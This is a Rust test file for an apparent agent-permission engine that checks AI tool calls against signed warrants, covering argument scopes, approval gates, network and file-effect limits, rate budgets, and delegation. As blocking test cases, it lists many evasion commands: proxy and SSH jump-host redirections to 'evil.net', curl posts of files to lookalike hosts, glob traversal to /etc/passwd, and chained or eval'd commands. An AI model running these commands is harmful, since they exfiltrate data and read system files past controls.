//! What a warrant says to calls.

use std::collections::BTreeMap;

use placet_core::{
    Claim, Policy, Timestamp, Verdict,
    decision::decide_under,
    warrant::{
        Authority, Counters, CountersInMemory, Held, LIFE_MS_MAX, Level, Posture, Purpose, Revocations,
        SealedWarrant, Subject, Terms, Unused,
    },
};

use super::{answer, call, decided, key, now, opened, roots, scope, terms};

/// Rows of a call and the answer.
fn check(slips: &[&str], rows: &[(&str, &str)]) {
    let warrant = opened(slips);
    for (json, expected) in rows {
        assert_eq!(answer(&warrant, &call(json)), *expected, "{slips:?}: {json}");
    }
}

#[test]
fn arguments_are_a_closed_world() {
    check(
        &["allow: ['read_file: path under /data/reports, offset?, limit? range 1..100']"],
        &[
            (r#"{"tool":"read_file","args":{"path":"/data/reports/a.csv"}}"#, "allow"),
            (
                r#"{"tool":"read_file","args":{"path":"/data/reports/a.csv","offset":"x","limit":100}}"#,
                "allow",
            ),
            (
                r#"{"tool":"read_file","args":{"path":"/etc/hosts"}}"#,
                "block: outside the warrant: `path` is `/etc/hosts`, not under `/data/reports`",
            ),
            (
                r#"{"tool":"read_file","args":{"path":"notes.md"}}"#,
                "block: outside the warrant: `path` must be under `/data/reports`, for which an absolute path is needed, and `notes.md` is a relative path",
            ),
            (
                r#"{"tool":"read_file","args":{"path":"/data/reports/a.csv","limit":101}}"#,
                "block: outside the warrant: `limit` is `101`, not a number from `1` to `100`",
            ),
            (
                r#"{"tool":"read_file","args":{"path":"/data/reports/a.csv","limit":"5"}}"#,
                "block: outside the warrant: `limit` must be a number from `1` to `100`, for which a number is needed, and `5` is text",
            ),
            (
                r#"{"tool":"read_file","args":{"path":"/data/reports/a.csv","follow":true}}"#,
                "block: outside the warrant: `follow` is an argument it does not name",
            ),
            (
                r#"{"tool":"read_file","args":{}}"#,
                "block: outside the warrant: `path` is missing, which must be under `/data/reports`",
            ),
            (
                r#"{"tool":"write_file","args":{"path":"/data/reports/a.csv","content":""}}"#,
                "block: outside the warrant: `write_file` is in none of its capabilities",
            ),
        ],
    );
    check(
        &["allow: ['read_file: path any, ..', 'todo', 'memory:']"],
        &[
            (r#"{"tool":"read_file","args":{"path":"/srv/a","follow":true}}"#, "allow"),
            (r#"{"tool":"todo","args":{"whatever":[1]}}"#, "allow"),
            (
                r#"{"tool":"memory","args":{"action":"add"}}"#,
                "block: outside the warrant: `action` is an argument it does not name",
            ),
        ],
    );
}

#[test]
fn the_mildest_tier_that_names_a_call_counts_within_a_link() {
    check(
        &["allow: ['terminal: command argv(git status)']\ngate: ['terminal: command argv(git ..)', 'todo']"],
        &[
            (r#"{"tool":"terminal","args":{"command":"git status"}}"#, "allow"),
            (
                r#"{"tool":"terminal","args":{"command":"git fetch"}}"#,
                "hold: the warrant wants a person to approve each such call of `terminal`",
            ),
            (
                r#"{"tool":"todo","args":{}}"#,
                "hold: the warrant wants a person to approve each such call of `todo`",
            ),
            (
                r#"{"tool":"terminal","args":{"command":"git status; id"}}"#,
                "block: outside the warrant: `command` must be the command `git status`, for which one plain command is needed, and `git status; id` is several commands (and 1 other capabilities refuse too)",
            ),
        ],
    );
}

#[test]
fn every_link_is_asked() {
    let root = "allow: ['read_file: path under /data', 'web_search: query any']";
    check(
        &[root, "allow: ['read_file: path under /', 'write_file: path any, content any']"],
        &[
            (r#"{"tool":"read_file","args":{"path":"/data/a"}}"#, "allow"),
            (
                r#"{"tool":"read_file","args":{"path":"/srv/a"}}"#,
                "block: outside the warrant, link 1 of 2: `path` is `/srv/a`, not under `/data`",
            ),
            (
                r#"{"tool":"write_file","args":{"path":"/data/a","content":""}}"#,
                "block: outside the warrant, link 1 of 2: `write_file` is in none of its capabilities",
            ),
            (
                r#"{"tool":"web_search","args":{"query":"x"}}"#,
                "block: outside the warrant, link 2 of 2: `web_search` is in none of its capabilities",
            ),
        ],
    );
    // A gate anywhere in the chain asks.
    check(
        &["gate: ['read_file: path any']", "allow: ['read_file: path any']"],
        &[(
            r#"{"tool":"read_file","args":{"path":"/data/a"}}"#,
            "hold: the warrant wants a person to approve each such call of `read_file`",
        )],
    );
}

#[test]
fn effects_limit_every_capability() {
    let slip = "allow: ['terminal', 'write_file', 'web_extract']\neffects: 'send to *.example.com; no delete; write under /srv/nightly'";
    check(
        &[slip],
        &[
            (r#"{"tool":"terminal","args":{"command":"ls /srv"},"cwd":"/srv/nightly"}"#, "allow"),
            (
                r#"{"tool":"terminal","args":{"command":"curl -d @a.txt https://api.example.com/in"},"cwd":"/srv/nightly"}"#,
                "allow",
            ),
            (r#"{"tool":"write_file","args":{"path":"/srv/nightly/a","content":""}}"#, "allow"),
            (
                r#"{"tool":"write_file","args":{"path":"/srv/other/a","content":""}}"#,
                "block: outside the warrant: it writes /srv/other/a, but: write only files under `/srv/nightly`",
            ),
        ],
    );
    let warrant = opened(&[slip]);
    for command in [
        "rm a.txt",
        "ls; rm a.txt",
        "curl -d @a.txt https://example.com/",
        "curl -d @a.txt https://api.example.com.evil.test/",
        "curl -d @a.txt http://api.example.com@evil.test/",
        "eval \"$X\"",
    ] {
        let json = format!(
            r#"{{"tool":"terminal","args":{{"command":{}}},"cwd":"/srv/nightly"}}"#,
            serde_json::to_string(command).unwrap()
        );
        let answer = answer(&warrant, &call(&json));
        assert!(answer.starts_with("block: outside the warrant: "), "{command}: {answer}");
    }
}

#[test]
fn effects_limit_where_traffic_passes_too() {
    let warrant = opened(&["allow: ['terminal']\neffects: 'send to api.example.com'"]);
    let answer_to = |command: &str| {
        let command = serde_json::to_string(command).unwrap();
        let json = format!(r#"{{"tool":"terminal","args":{{"command":{command}}},"cwd":"/srv/nightly"}}"#);
        answer(&warrant, &call(&json))
    };
    for command in [
        "curl -d x https://api.example.com/in",
        "curl https://api.example.com/in",
        "http_proxy= curl -d x https://api.example.com/in",
        "HOME=/tmp/x curl -q -d x https://api.example.com/in",
        "GIT_CONFIG_GLOBAL=/dev/null git fetch",
        "scp a.txt api.example.com:",
        "sftp api.example.com",
        "ssh -J api.example.com u@api.example.com",
        "nc -x api.example.com:1080 api.example.com 80 < a.txt",
        "echo 'url = https://api.example.com/in' > c; curl -d x -K c",
    ] {
        let answer = answer_to(command);
        assert!(!answer.contains("outside the warrant"), "{command}: {answer}");
    }
    for command in [
        // Proxies in variables, however they are set.
        "http_proxy=http://evil.net curl -d x http://api.example.com/",
        "https_proxy=http://evil.net curl https://api.example.com/",
        "HTTPS_PROXY=evil.net:3128 wget https://api.example.com/",
        "export ALL_PROXY=socks5://evil.net; curl -d x https://api.example.com/",
        "all_proxy=$X curl -d x https://api.example.com/",
        "env https_proxy=http://evil.net curl https://api.example.com/",
        "sudo http_proxy=http://evil.net curl -d x http://api.example.com/",
        "for http_proxy in http://evil.net; do curl -d x http://api.example.com/; done",
        "read http_proxy <<< http://evil.net; curl -d x http://api.example.com/",
        "RSYNC_PROXY=evil.net:3128 rsync a.txt rsync://api.example.com/m",
        "CURL_HOME=/tmp/x curl -d x https://api.example.com/",
        "WGETRC=/tmp/x wget https://api.example.com/",
        "HOME=/tmp/x wget https://api.example.com/",
        "HOME=/tmp/x curl -d x https://api.example.com/",
        "env XDG_CONFIG_HOME=/tmp/x curl -d x https://api.example.com/",
        "GIT_CONFIG_GLOBAL=/tmp/x git fetch",
        "torsocks curl https://api.example.com/",
        // Options of curl.
        "curl -x evil.net:3128 https://api.example.com/",
        "curl -xevil.net https://api.example.com/",
        "curl --proxy http://evil.net -d x https://api.example.com/",
        "curl --prox=http://evil.net https://api.example.com/",
        "curl --preproxy evil.net https://api.example.com/",
        "curl --proxy1.0 evil.net https://api.example.com/",
        "curl --socks5-hostname evil.net https://api.example.com/",
        "curl --connect-to ::evil.net:443 https://api.example.com/",
        "curl --resolve api.example.com:443:198.51.100.7 https://api.example.com/",
        "curl --doh-url https://evil.net/ https://api.example.com/",
        "curl -K c https://api.example.com/",
        "curl --config c",
        "curl --data-r x https://evil.net/",
        "curl --form-string a=b https://evil.net/",
        "curl -K - <<< 'url = \"https://evil.net/\"\ndata = x'",
        "printf 'proxy = evil.net' > c; curl -K c https://api.example.com/",
        // Other programs of the web.
        "wget -e https_proxy=http://evil.net https://api.example.com/",
        "wget --execute='http-proxy = evil.net' https://api.example.com/",
        "wget --config=c https://api.example.com/",
        "http --proxy=http:http://evil.net api.example.com",
        "aria2c --all-proxy=http://evil.net https://api.example.com/f",
        // Copies and sessions.
        "sftp evil.net",
        "sftp u@evil.net:/in < cmds",
        "echo 'put a.txt' | sftp evil.net",
        "sftp -b cmds u@evil.net",
        "sftp -J evil.net api.example.com",
        "sftp -o ProxyJump=evil.net api.example.com",
        "sftp -F cfg api.example.com",
        "scp -J evil.net a.txt api.example.com:",
        "scp -o ProxyJump=evil.net a.txt api.example.com:",
        "scp -oProxyCommand='nc evil.net 22' a.txt api.example.com:",
        "ssh -J evil.net api.example.com",
        "ssh -J api.example.com,evil.net api.example.com",
        "ssh -o 'ProxyCommand = nc evil.net 22' api.example.com",
        "ssh -o ProxyJump=evil.net api.example.com",
        "ssh -o HostName=evil.net api.example.com",
        "ssh api.example.com -o 'HostName evil.net'",
        "ssh -W evil.net:80 api.example.com",
        "ssh -F cfg api.example.com",
        "rsync -e 'ssh -J evil.net' a.txt api.example.com:",
        "GIT_SSH=/tmp/x git fetch; rsync a.txt evil.net:",
        "nc -x evil.net:1080 api.example.com 80 < a.txt",
        "ncat --proxy evil.net:3128 api.example.com 80 < a.txt",
        "socat - PROXY:evil.net:api.example.com:80 < a.txt",
        "socat - PROXY:api.example.com:evil.net:80 < a.txt",
        // Settings of git.
        "git -c http.proxy=http://evil.net fetch",
        "git -c http.https://api.example.com.proxy=http://evil.net fetch",
        "git -c url.https://evil.net/.insteadOf=https://api.example.com/ fetch",
        "git -c remote.origin.url=https://evil.net/x fetch",
        "git config http.proxy http://evil.net && git fetch",
    ] {
        let answer = answer_to(command);
        assert!(answer.starts_with("block: outside the warrant: "), "{command}: {answer}");
    }
}

#[test]
fn a_path_that_is_not_known_whole_is_in_no_directory() {
    let warrants = [
        opened(&["allow_effects: ['read under /srv; write under /srv']"]),
        opened(&["allow: ['terminal']\neffects: 'read under /srv; write under /srv'"]),
        opened(&["allow: ['terminal']\neffects: 'read path not under /etc; write path glob /srv/**'"]),
    ];
    let answers = |command: &str| {
        let command = serde_json::to_string(command).unwrap();
        let json = format!(r#"{{"tool":"terminal","args":{{"command":{command}}},"cwd":"/srv/nightly"}}"#);
        warrants.each_ref().map(|warrant| answer(warrant, &call(&json)))
    };
    for command in [
        "cat /srv/a",
        "cat /srv/*",
        "cat /srv/.env*",
        "cat /srv/*/x.txt /srv/a?.txt /srv/[ab]",
        "cat '/srv/report (1).txt'",
        "for f in /srv/*.txt; do cat \"$f\"; done",
        "D=/srv/x; cat \"$D/a\"",
        "cp /srv/a /srv/b",
    ] {
        for answer in answers(command) {
            assert!(!answer.contains("outside the warrant"), "{command}: {answer}");
        }
    }
    for command in [
        "cat /srv/$X",
        "cat \"/srv/${X}\"",
        "cat /srv/$(cat /srv/x)",
        "cat /srv/$1",
        "for f in $X; do cat /srv/$f; done",
        "xargs -I{} cat /srv/{} < /srv/list",
        "cp /srv/a /srv/$X",
        "mv /srv/a \"/srv/$X\"",
        "cat /srv/.*",
        "cat /srv/.*/etc/passwd",
        "cat /srv/.?/etc/passwd",
        "cat /srv/.[.]/etc/passwd",
        "cat /srv/.[!a]/etc/passwd",
        "cat /srv/@(..)/etc/passwd",
        "cat /srv/+(.)/etc/passwd",
    ] {
        for answer in answers(command) {
            assert!(answer.starts_with("block: outside the warrant: "), "{command}: {answer}");
        }
    }
}

#[test]
fn effects_may_be_a_capability_of_their_own() {
    check(
        &["allow_effects: ['read under /srv; write under /srv/out']"],
        &[
            (r#"{"tool":"read_file","args":{"path":"/srv/a"}}"#, "allow"),
            (r#"{"tool":"terminal","args":{"command":"cat a.txt"},"cwd":"/srv"}"#, "allow"),
            (r#"{"tool":"terminal","args":{"command":"cat a > out/b"},"cwd":"/srv"}"#, "allow"),
            (
                r#"{"tool":"read_file","args":{"path":"/data/a"}}"#,
                "block: outside the warrant: no capability covers that it reads /data/a",
            ),
            (
                r#"{"tool":"terminal","args":{"command":"cat a > b"},"cwd":"/srv"}"#,
                "block: outside the warrant: no capability covers that it writes /srv/b",
            ),
        ],
    );
}

#[test]
fn an_answer_in_advance_lifts_what_a_threshold_would_ask() {
    // Critical: without the warrant a person is asked.
    let push = r#"{"tool":"terminal","args":{"command":"git push --force origin main"},"cwd":"/srv/app"}"#;
    assert_eq!(placet_core::decide(&call(push), &Policy::default()).verdict, Verdict::Hold);
    let named = "allow: ['terminal: command argv(git push --force origin main)']";
    let any = "allow: ['terminal']";
    let argument_free = "allow: ['terminal: command any']";
    let answers = |slips: &[&str]| decided(&opened(slips), &call(push), &Unused).verdict;
    assert_eq!(answers(&[named]), Verdict::Allow);
    assert_eq!(answers(&[any]), Verdict::Hold, "a tool alone does not answer for critical calls");
    assert_eq!(answers(&[argument_free]), Verdict::Hold);
    assert_eq!(answers(&[any, named]), Verdict::Hold, "only the root's word counts, not that of the agent");
    assert_eq!(answers(&[named, any]), Verdict::Allow);
    let both = "allow: ['terminal', 'terminal: command argv(git push --force origin main)']";
    assert_eq!(answers(&[both]), Verdict::Allow, "the more specific of two counts");
    // What cannot be read is always asked about.
    let hidden = r#"{"tool":"terminal","args":{"command":"eval \"$X\""}}"#;
    let glob = opened(&["allow: ['terminal: command glob eval*']"]);
    assert_eq!(decided(&glob, &call(hidden), &Unused).verdict, Verdict::Hold);
    // What the operator wants to be asked about every time, too.
    let policy: Policy = toml::from_str("[tools.terminal]\nalways_ask = true").unwrap();
    let warrant = opened(&[named]);
    let authority = Authority {
        warrant: &warrant,
        held: Held::Taken,
        posture: Posture::OPEN,
        counters: &Unused,
        now: now(),
    };
    assert_eq!(decide_under(&call(push), &policy, Some(&authority)).verdict, Verdict::Hold);
}

#[test]
fn limits_are_claims_on_counters() {
    let warrant = opened(&["allow: ['pay: amount any']\nlimits: {max_calls: 3, budget: {amount: 10.50}}"]);
    let pay = |amount: &str| call(&format!(r#"{{"tool":"pay","args":{{"amount":{amount}}}}}"#));
    let mut counters = CountersInMemory::default();
    let mut spend = |amount: &str| {
        let decision = decided(&warrant, &pay(amount), &counters);
        let said =
            decision.findings.iter().find(|finding| finding.reason.contains("warrant")).unwrap().clone();
        if said.verdict != Verdict::Block {
            counters.settle(&decision.claims).unwrap();
            return "allow".to_owned();
        }
        said.reason
    };
    assert_eq!(spend("10.4"), "allow");
    assert_eq!(spend("0.2"), "outside the warrant: `amount` is 0.2, and 0.1 of 10.5 are left");
    assert_eq!(spend("0.1"), "allow");
    assert_eq!(spend("0"), "allow");
    assert_eq!(spend("0"), "outside the warrant: all 3 calls are used up");
    for odd in ["-1", "\"1\"", "0.0000001", "null"] {
        let decision = decided(&warrant, &pay(odd), &Unused);
        assert_eq!(decision.verdict, Verdict::Block, "{odd}");
    }
    // Two decisions on one snapshot cannot both spend the last use.
    let last = opened(&["allow: ['todo']\nlimits: {max_calls: 1}"]);
    let claims = decided(&last, &call(r#"{"tool":"todo"}"#), &Unused).claims;
    let mut counters = CountersInMemory::default();
    assert_eq!(counters.settle(&claims), Ok(()));
    assert!(matches!(counters.settle(&claims), Err(Claim::Count { .. })));
}

/// The instants, in seconds, at which a call is allowed under `rate` if one is tried every `every` milliseconds.
fn allowed_at(rate: &str, every: usize, until: i64) -> Vec<i64> {
    let warrant = opened(&[&format!("allow: ['todo']\nlimits: {{rate: {rate}}}")]);
    let todo = call(r#"{"tool":"todo"}"#);
    let mut counters = CountersInMemory::default();
    let mut allowed = Vec::new();
    for ms in (0..until).step_by(every) {
        let authority = Authority {
            warrant: &warrant,
            held: Held::Taken,
            posture: Posture::OPEN,
            counters: &counters,
            now: warrant.last().head.not_before.plus_ms(ms),
        };
        let decision = decide_under(&todo, &Policy::default(), Some(&authority));
        if decision.verdict == Verdict::Allow {
            counters.settle(&decision.claims).unwrap();
            allowed.push(ms);
        }
    }
    allowed
}

#[test]
fn a_rate_holds_in_any_stretch_of_time() {
    // One a minute, counted in steps of six seconds: the next call comes once the step of the last is a minute over.
    assert_eq!(allowed_at("1/1m", 1000, 200_000), [0, 66_000, 132_000, 198_000]);
    // Three at once, and no burst where one minute ends and the next begins.
    assert_eq!(allowed_at("3/1m", 500, 70_000), [0, 500, 1000, 66_000, 66_500, 67_000]);
    for (rate, count, per_ms, every) in
        [("3/1m", 3, 60_000, 700), ("10/1s", 10, 1000, 7), ("2/10m", 2, 600_000, 7_000)]
    {
        let allowed = allowed_at(rate, every, per_ms * 5);
        for stretch in allowed.windows(count + 1) {
            assert!(stretch[count] - stretch[0] >= per_ms, "{rate}: {stretch:?}");
        }
        // And it is not much less than was said.
        assert!(allowed.len() >= count * 4, "{rate}: {allowed:?}");
    }
}

/// Counters that are gone once their end is over, as a store lets them go.
#[derive(Default)]
struct Forgetful(BTreeMap<String, (u64, Timestamp)>);

impl Counters for Forgetful {
    fn count(&self, key: &str) -> u64 {
        self.0.get(key).map_or(0, |(count, _)| *count)
    }
}

#[test]
fn what_may_be_forgotten_is_asked_for_by_nobody() {
    let todo = call(r#"{"tool":"todo"}"#);
    for limits in ["rate: 3/30d", "rate: 5/10d", "max_calls: 7"] {
        let terms = terms(2, scope(&format!("allow: ['todo']\nlimits: {{{limits}}}")));
        let terms = Terms { expires: terms.not_before.plus_ms(LIFE_MS_MAX), ..terms };
        let sealed = SealedWarrant::mint(terms, &key(1)).unwrap();
        let warrant = sealed.open(&roots(), &Revocations::none(), now()).unwrap();
        let (mut all, mut some) = (CountersInMemory::default(), Forgetful::default());
        let head = &warrant.last().head;
        let hour = 60 * 60 * 1_000;
        let life = usize::try_from(head.expires.ms_since(head.not_before) / hour).unwrap();
        for hours in (0..life).step_by(5) {
            let now = head.not_before.plus_ms(i64::try_from(hours).unwrap() * hour);
            some.0.retain(|_, (_, ends)| *ends > now);
            let ask = |counters: &dyn Counters| {
                let authority =
                    Authority { warrant: &warrant, held: Held::Taken, posture: Posture::OPEN, counters, now };
                decide_under(&todo, &Policy::default(), Some(&authority))
            };
            let (decision, other) = (ask(&all), ask(&some));
            assert_eq!(decision.verdict, other.verdict, "{limits}, hour {hours}");
            if decision.verdict == Verdict::Allow {
                all.settle(&decision.claims).unwrap();
                for claim in other.claims {
                    let Claim::Count { key, adds, ends: Some(ends), .. } = claim else { panic!("{claim:?}") };
                    let counter = some.0.entry(key).or_insert((0, ends));
                    *counter = (counter.0 + adds, counter.1.max(ends));
                }
            }
        }
        // And one that ends with the warrant can be looked at for a while.
        assert!(limits.starts_with("rate") || some.0.values().all(|(_, ends)| *ends > head.expires));
    }
}

#[test]
fn hours_risk_and_posture_bind() {
    let at = |slip: &str, when: &str, posture: Posture| {
        let warrant = opened(&[slip]);
        let authority = Authority {
            warrant: &warrant,
            held: Held::Taken,
            posture,
            counters: &Unused,
            now: Timestamp::parse(when).unwrap(),
        };
        let call = call(r#"{"tool":"terminal","args":{"command":"make"},"cwd":"/srv/app"}"#);
        decide_under(&call, &Policy::default(), Some(&authority)).reasons.join("; ")
    };
    let hours = "allow: ['terminal']\nlimits: {hours: 'Mo 13:00-14:00 Europe/Berlin'}";
    assert!(at(hours, "2026-03-02T12:30:00Z", Posture::OPEN).contains("the warrant allows this call"));
    assert_eq!(
        at(hours, "2026-03-02T13:00:00Z", Posture::OPEN),
        "outside the warrant: it is not valid now",
        "it has expired by then"
    );
    assert_eq!(
        at("allow: ['terminal']\nlimits: {hours: 'Mo 14:00-15:00 UTC'}", super::NOW, Posture::OPEN),
        "outside the warrant: it is only valid Mo 14:00-15:00 UTC"
    );
    assert!(
        at("allow: ['terminal']\nlimits: {max_risk: 0.01}", super::NOW, Posture::OPEN)
            .contains("the risk is")
    );
    let confined = "allow: ['terminal']\nposture: {fs: guarded, net: closed}";
    assert_eq!(
        at(confined, super::NOW, Posture::OPEN),
        "outside the warrant: it needs a confinement of at least `fs guarded, net closed`, and `open` is in force"
    );
    let firm = Posture { fs: Level::Closed, net: Level::Closed, proc: Level::Open };
    assert!(at(confined, super::NOW, firm).contains("the warrant allows this call"));
    let half = Posture { fs: Level::Closed, net: Level::Guarded, proc: Level::Closed };
    assert!(at(confined, super::NOW, half).contains("it needs a confinement"));
}

#[test]
fn a_warrant_to_issue_does_not_act() {
    let mut issue = terms(2, scope("allow: ['todo']"));
    issue.purpose = Purpose::Issue;
    let sealed = SealedWarrant::mint(issue, &key(1)).unwrap();
    let open = |sealed: &SealedWarrant| sealed.open(&roots(), &Revocations::none(), now()).unwrap();
    let todo = call(r#"{"tool":"todo"}"#);
    assert_eq!(
        answer(&open(&sealed), &todo),
        "block: the warrant only gives leave to issue others, not to act"
    );
    let child = sealed.peek().unwrap().grant(terms(3, scope("allow: ['todo', 'memory']")), &key(2)).unwrap();
    assert_eq!(answer(&open(&child), &todo), "allow");
    assert!(
        answer(&open(&child), &call(r#"{"tool":"memory"}"#))
            .starts_with("block: outside the warrant, link 1")
    );
}

#[test]
fn a_grant_for_a_session_is_for_that_session() {
    let mut grant = terms(2, scope("allow: ['todo']"));
    grant.subject = Subject::Session { agent: "scout".to_owned(), session: "s1".to_owned() };
    let sealed = SealedWarrant::mint(grant, &key(1)).unwrap();
    let warrant = sealed.open(&roots(), &Revocations::none(), now()).unwrap();
    for (agent, session, expected) in [
        ("scout", "s1", "allow"),
        ("scout", "s2", "block: the warrant is bound to another agent or session"),
        ("other", "s1", "block: the warrant is bound to another agent or session"),
        ("", "", "block: the warrant is bound to another agent or session"),
    ] {
        let json = format!(r#"{{"tool":"todo","agent":"{agent}","session":"{session}"}}"#);
        assert_eq!(answer(&warrant, &call(&json)), expected);
    }
    assert!(sealed.peek().unwrap().grant(terms(3, scope("allow: ['todo']")), &key(2)).is_err());
}
